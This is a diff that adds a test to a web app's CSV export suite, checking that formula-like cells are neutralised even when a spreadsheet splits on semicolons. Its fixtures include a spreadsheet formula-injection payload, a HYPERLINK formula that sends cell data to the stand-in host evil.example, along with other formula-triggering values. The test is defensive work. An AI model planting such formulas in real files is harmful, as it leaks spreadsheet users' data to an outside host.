@@ -56,6 +56,25 @@ def test_cells_a_spreadsheet_would_run_are_neutralised(client, login_as, make_re
     assert rows[1][header.index("Region")] == "London"  # ordinary cells are left alone
 
 
+def test_a_spreadsheet_splitting_on_semicolons_sees_no_formula_either(
+    client, login_as, make_review
+):
+    from tests.services.test_csv_cells import formula_cells
+
+    make_review(offence_charged='Assault;=HYPERLINK("http://evil.example/?"&A1,"x")')
+    make_review(pdu="Camden, +SUM(A1)", offence_charged="Theft\n-2+3")
+    login_as("leadership")
+
+    response = client.get("/reviews.csv")
+
+    assert formula_cells(response.data) == []
+    rows = read_csv(response)
+    header = rows[0]
+    offences = {r[header.index("Offence charged")] for r in rows[1:]}
+    assert 'Assault;\'=HYPERLINK("http://evil.example/?"&A1,"x")' in offences
+    assert "Theft\n'-2+3" in offences
+
+
 def test_an_export_with_bad_filters_goes_back_to_the_list_which_explains(client, as_leadership):
     response = client.get("/reviews.csv?status=bogus&region=London")
     assert response.status_code == 302
